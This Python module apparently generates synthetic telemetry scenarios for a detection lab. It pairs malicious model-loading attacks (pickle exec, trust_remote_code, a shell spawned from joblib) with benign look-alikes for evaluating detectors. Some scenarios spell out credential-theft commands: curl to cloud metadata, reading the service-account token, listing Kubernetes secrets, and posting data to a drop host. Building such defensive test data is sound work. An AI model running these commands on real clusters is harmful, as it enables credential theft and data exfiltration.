"""Models that run code while they load, and loads that are none of that: weights, a chat template, a storage client."""

from __future__ import annotations

from dataclasses import replace

from eightysix.lab.generate.audit import Request
from eightysix.lab.generate.cluster import Image
from eightysix.lab.generate.label import Label, attack, look_alike
from eightysix.lab.generate.programs import (
    AZURE_SDK,
    DROP,
    HUB,
    KUBERNETES_SDK,
    METADATA,
    REDIS,
    STORAGE,
    api_request,
    boot_python,
    call,
    import_azure,
    managed_identity,
    read_service_account,
    storage,
)
from eightysix.lab.generate.scenarios.cast import (
    FAST,
    MANAGED_IDENTITY,
    SERVER,
    SERVICE_ACCOUNT,
    STOLEN_SECRET,
    benign,
    inference,
    start_server,
    steal,
)
from eightysix.lab.generate.scene import TOKEN_FOLDER, Process, Scene, Streams
from eightysix.lab.generate.sensor import Stack
from eightysix.lab.generate.settings import (
    FULL,
    KERNEL_AND_AUDIT,
    KERNEL_AND_SENSOR,
    KERNEL_ONLY,
    SENSOR_AND_AUDIT,
    Setting,
)

__all__: list[str] = []

_LANDS = 1_500.0
_DAY = 86_400.0
_AGENT = "OpenAPI-Generator/35.0.0/python"
_IDENTITIES = (MANAGED_IDENTITY, SERVICE_ACCOUNT, STOLEN_SECRET)
_TORCH = Stack(("torch", *SERVER.frames), thread=7)
_MODULES = "/root/.cache/huggingface/modules/transformers_modules/contoso/tiny-chat/5f0c19d2"
_HUB_TOKEN = "/root/.cache/huggingface/token"


def _server(setting: Setting) -> tuple[Scene, Process]:
    scene = Scene(setting)
    container = inference(scene)
    server = scene.entrypoint(0.31, container, "/opt/venv/bin/python", "/app/server.py")
    start_server(server, 0.31)
    return scene, server


def _fetch(server: Process, at: float, name: str) -> None:
    """The server fetches a new version of its model from its own storage account, and writes it."""
    storage(server, at - 2.0, STORAGE, SERVER)
    server.write(at, f"/models/resnet/{name}")


def _weights(server: Process, at: float, by: Stack) -> None:
    """The globals of an ordinary checkpoint."""
    for step, (module, name) in enumerate(
        (
            ("collections", "OrderedDict"),
            ("torch._utils", "_rebuild_tensor_v2"),
            ("torch", "FloatStorage"),
            ("torch._utils", "_rebuild_parameter"),
        )
    ):
        server.sense_pickle(at + step * 0.01, module, name, by)


def _attack(server: Process, *, at_least: str, stages: tuple[str, ...], twin: str) -> Label:
    return Label(
        malicious=True,
        at_least=at_least,
        at_most="contain",
        telling="what asks runs inside of the model's load: no code of the application lies between",
        twin=twin,
        stages=stages,
        rules=("model-load",),
        identities=_IDENTITIES,
        t0_s=_LANDS,
        leaves_s=_LANDS + FAST.leave,
        pod_uid=server.container.pod.uid,
    )


def _unpickles(setting: Setting) -> tuple[Streams, Label]:
    scene, server = _server(setting)
    _fetch(server, _LANDS, "pytorch_model.bin")
    _weights(server, _LANDS + 1.0, _TORCH)
    server.sense_pickle(_LANDS + 1.2, "builtins", "exec", _TORCH)
    steal(server, _LANDS, _TORCH, FAST)
    least = "contain" if setting.sensor is not None and setting.kernel is not None else "suspect"
    if setting.name == KERNEL_ONLY.name:
        least = "watch"  # the same connections are a server's that first reads its settings and a blob after a load
    kernel = setting.kernel is not None
    told = (("land",) if kernel else ()) + (("run",) if setting.sensor is not None else ())
    label = _attack(
        server, at_least=least, stages=(*told, "reach", "pivot", "leave"), twin="model-then-token"
    )
    return scene.streams(), label


@attack("model-unpickles", FULL, KERNEL_AND_AUDIT, KERNEL_AND_SENSOR, KERNEL_ONLY, SENSOR_AND_AUDIT)
def model_unpickles(setting: Setting) -> tuple[Streams, Label]:
    """A server swaps its model for a new version; the pickle in it takes the credentials while `torch.load` reads it."""
    return _unpickles(setting)


@attack("model-unpickles-known", KERNEL_ONLY)
def model_unpickles_known(setting: Setting) -> tuple[Streams, Label, Streams]:
    """The same where the day before is known: the kernel alone tells that the workload never talked to that place."""
    streams, label = _unpickles(setting)
    before, server = _server(replace(setting, shift_s=setting.shift_s - _DAY))
    _fetch(server, _LANDS, "pytorch_model.bin")
    return streams, replace(label, at_least="suspect"), before.streams()


@attack("model-spawns", FULL, KERNEL_AND_SENSOR)
def model_spawns(setting: Setting) -> tuple[Streams, Label]:
    """The pickle calls `os.system`: curl and cat take the credentials, in processes of their own."""
    scene, server = _server(setting)
    _fetch(server, _LANDS, "encoder.joblib")
    loader = Stack(("joblib", *SERVER.frames), thread=7)
    server.sense_pickle(_LANDS + 1.0, "sklearn.pipeline", "Pipeline", loader)
    server.sense_pickle(_LANDS + 1.1, "posix", "system", loader)
    server.sense_child(_LANDS + 1.11, ("/bin/sh", "-c", "sh /models/.x"), loader)
    shell = server.exec(_LANDS + 1.12, "/bin/sh", '-c "sh /models/.x"')
    curl = shell.exec(_LANDS + 1.2, "/usr/bin/curl", "-s -H Metadata:true http://169.254.169.254/metadata")
    call(curl, _LANDS + 1.23, METADATA, None)
    curl.exit(_LANDS + 1.3)
    cat = shell.exec(_LANDS + 1.6, "/usr/bin/cat", f"{TOKEN_FOLDER}/token")
    cat.read(_LANDS + 1.601, f"{TOKEN_FOLDER}/token")
    cat.exit(_LANDS + 1.603)
    curl = shell.exec(_LANDS + 1.9, "/usr/bin/curl", "-sk -K - https://kubernetes.default.svc/api/v1/secrets")
    api_request(curl, _LANDS + 1.93, Request("list", "secrets", "ml", user_agent="curl/7.88.1"), None)
    curl.exit(_LANDS + 2.0)
    curl = shell.exec(_LANDS + FAST.leave - 0.1, "/usr/bin/curl", f"-s --data-binary @- https://{DROP.host}/")
    call(curl, _LANDS + FAST.leave, DROP, None)
    curl.exit(_LANDS + FAST.leave + 0.2)
    shell.exit(_LANDS + FAST.leave + 0.3)
    label = _attack(
        shell,
        at_least="suspect",
        stages=("land", "run", "reach", "pivot", "leave"),
        twin="model-then-token",
    )
    return scene.streams(), label


@attack("model-remote-code", FULL, KERNEL_AND_SENSOR, SENSOR_AND_AUDIT)
def model_remote_code(setting: Setting) -> tuple[Streams, Label]:
    """A model that is loaded with `trust_remote_code` at start: its module takes the credentials while it is imported."""
    scene, server = _server(setting)
    transformers = Stack(("transformers", *SERVER.frames))
    server.sense_import(_LANDS + 1.0, "transformers_modules.contoso.tiny-chat", transformers)
    code = Stack((f"app:{_MODULES}/modeling_tiny.py", *transformers.frames))
    steal(server, _LANDS, code, FAST)
    label = _attack(
        server,
        at_least="suspect",
        stages=("run", "reach", "pivot", "leave"),
        twin="remote-code-start",
    )
    return scene.streams(), replace(label, t0_s=_LANDS + 1.0)


def _replica(scene: Scene, release: str, started: float) -> Process:
    pod = scene.pod("scorer", release=release)
    image = Image(f"registry.example/ml/scorer:2026.{release}", release)
    container = scene.container(pod, image, started=started, name="scorer")
    server = scene.entrypoint(started + 0.3, container, "/opt/venv/bin/python", "/app/server.py")
    boot_python(server, started + 0.3, ["python", "/app/server.py"])
    call(server, started + 1.5, REDIS, Stack(SERVER.frames))
    managed_identity(server, started + 2.1, SERVER)
    storage(server, started + 2.3, STORAGE, SERVER)
    return server


@attack("model-in-release", FULL, KERNEL_AND_SENSOR)
def model_in_release(setting: Setting) -> tuple[Streams, Label, Streams]:
    """A new image digest brings a new model; it only connects to a place that the workload never knew, while it loads."""
    scene = Scene(setting)
    server = _replica(scene, "11", 0.0)
    _weights(server, 8.0, _TORCH)
    server.sense_pickle(8.2, "builtins", "exec", _TORCH)
    call(server, 8.4, DROP, _TORCH, path="/v1/collect", method="POST")
    before = Scene(setting)
    old = _replica(before, "10", -_DAY)
    _weights(old, -_DAY + 8.0, _TORCH)
    label = Label(
        malicious=True,
        at_least="suspect",
        at_most="suspect",
        telling="no pod of the previous digest ever reached this host, and a model's load does",
        twin="remote-code-start",
        stages=("land", "run", "leave"),
        rules=("model-load",),
        pod_uid=server.container.pod.uid,
    )
    return scene.streams(), label, before.streams()


def _benign(server: Process, telling: str, twin: str, notes: str = "") -> Label:
    return benign(server, telling, twin, _LANDS, notes)


@look_alike("remote-code-start", FULL, KERNEL_AND_AUDIT, KERNEL_AND_SENSOR, SENSOR_AND_AUDIT)
def remote_code_start(setting: Setting) -> tuple[Streams, Label]:
    """A start with `trust_remote_code`: hub client, storage client and application each take what they always do."""
    scene = Scene(setting)
    container = inference(scene)
    server = scene.entrypoint(0.31, container, "/opt/venv/bin/python", "/app/server.py")
    boot_python(server, 0.31, ["python", "/app/server.py"])
    main = Stack(SERVER.frames)
    import_azure(server, 0.7, main)
    transformers = Stack(("transformers", *main.frames))
    hub = Stack(("huggingface-hub", *transformers.frames))
    server.read(2.0, _HUB_TOKEN, by=hub)
    call(server, 2.1, HUB, hub)
    server.sense_import(4.0, "transformers_modules.contoso.tiny-chat", transformers)
    code = (f"app:{_MODULES}/modeling_tiny.py", *transformers.frames)
    server.read(4.2, _HUB_TOKEN, by=Stack(("huggingface-hub", *code)))
    call(server, 4.3, HUB, Stack(("huggingface-hub", *code)))
    managed_identity(server, 5.0, Stack(("azure-core", "azure-storage-blob", *code)))
    storage(server, 5.2, STORAGE, Stack(code))
    managed_identity(server, 6.0, SERVER)
    storage(server, 6.2, STORAGE, SERVER)
    client = Stack((*KUBERNETES_SDK, *SERVER.frames), thread=7)
    read_service_account(server, 7.0, client)
    api_request(server, 7.1, Request("list", "endpoints", "ml", user_agent=_AGENT), client)
    return scene.streams(), _benign(
        server,
        "inside of the load only storage clients ask; the application asks for the rest",
        "model-remote-code",
    )


@look_alike("remote-code-own-token", FULL, KERNEL_AND_SENSOR)
def remote_code_own_token(setting: Setting) -> tuple[Streams, Label]:
    """Code of the model takes the managed identity token itself, and reads storage with it: one domain, one known place."""
    scene = Scene(setting)
    container = inference(scene)
    server = scene.entrypoint(0.31, container, "/opt/venv/bin/python", "/app/server.py")
    boot_python(server, 0.31, ["python", "/app/server.py"])
    transformers = Stack(("transformers", *SERVER.frames))
    server.sense_import(4.0, "transformers_modules.contoso.tiny-chat", transformers)
    code = (f"app:{_MODULES}/configuration_tiny.py", *transformers.frames)
    managed_identity(server, 5.0, Stack(code))
    storage(server, 5.2, STORAGE, Stack(code))
    return scene.streams(), _benign(
        server, "one credential, for the store that the model lies in", "model-remote-code"
    )


@look_alike("weights-only-load", FULL, KERNEL_AND_AUDIT, KERNEL_ONLY)
def weights_only_load(setting: Setting) -> tuple[Streams, Label]:
    """A server swaps its model; `weights_only` looks up no global. Then it refreshes the token that it always had."""
    scene, server = _server(setting)
    _fetch(server, _LANDS, "model.pt")
    managed_identity(server, _LANDS + 12.0, SERVER)
    storage(server, _LANDS + 12.4, STORAGE, SERVER)
    return scene.streams(), _benign(server, "nothing runs while it loads", "model-unpickles")


def _swaps(setting: Setting, *, used_before: bool) -> tuple[Streams, Label]:
    scene, server = _server(setting)
    client = Stack((*KUBERNETES_SDK, *SERVER.frames), thread=7)
    if used_before:
        read_service_account(server, 5.0, client)
        api_request(server, 5.1, Request("list", "endpoints", "ml", user_agent=_AGENT), client)
    _fetch(server, _LANDS, "encoder.pkl")
    loader = Stack(("joblib", *SERVER.frames), thread=7)
    for step, (module, name) in enumerate(
        (("sklearn.pipeline", "Pipeline"), ("numpy", "ndarray"), ("joblib.numpy_pickle", "NumpyArrayWrapper"))
    ):
        server.sense_pickle(_LANDS + 1.0 + step * 0.01, module, name, loader)
    managed_identity(server, _LANDS + 21.0, SERVER)
    storage(server, _LANDS + 21.2, STORAGE, SERVER)
    read_service_account(server, _LANDS + 24.0, client)
    api_request(server, _LANDS + 24.1, Request("list", "endpoints", "ml", user_agent=_AGENT), client)
    return scene.streams(), _benign(
        server, "the application asks, after the load and on no loader's stack", "model-unpickles"
    )


@look_alike("model-then-token", FULL, KERNEL_AND_AUDIT, KERNEL_AND_SENSOR, KERNEL_ONLY, SENSOR_AND_AUDIT)
def model_then_token(setting: Setting) -> tuple[Streams, Label]:
    """A server swaps a pickled model and goes on with both its identities, as before."""
    return _swaps(setting, used_before=True)


@look_alike("model-then-first-token", FULL, KERNEL_AND_AUDIT, KERNEL_ONLY)
def model_then_first_token(setting: Setting) -> tuple[Streams, Label]:
    """The same, and it never used its service account before: what a first request after the swap may do."""
    return _swaps(setting, used_before=False)


@look_alike("pickle-from-storage", FULL, KERNEL_AND_SENSOR)
def pickle_from_storage(setting: Setting) -> tuple[Streams, Label]:
    """joblib reads a pickle through a file system on blob storage: its client asks for a token while it is unpickled."""
    scene, server = _server(setting)
    loader = Stack(("joblib", *SERVER.frames), thread=7)
    server.sense_pickle(_LANDS + 1.0, "sklearn.pipeline", "Pipeline", loader)
    call(server, _LANDS + 1.4, METADATA, Stack((*AZURE_SDK, "adlfs", *loader.frames), thread=7))
    call(server, _LANDS + 1.6, STORAGE, Stack(("azure-storage-blob", "adlfs", *loader.frames), thread=7))
    return scene.streams(), _benign(
        server, "a storage client stands between loader and credential", "model-unpickles"
    )
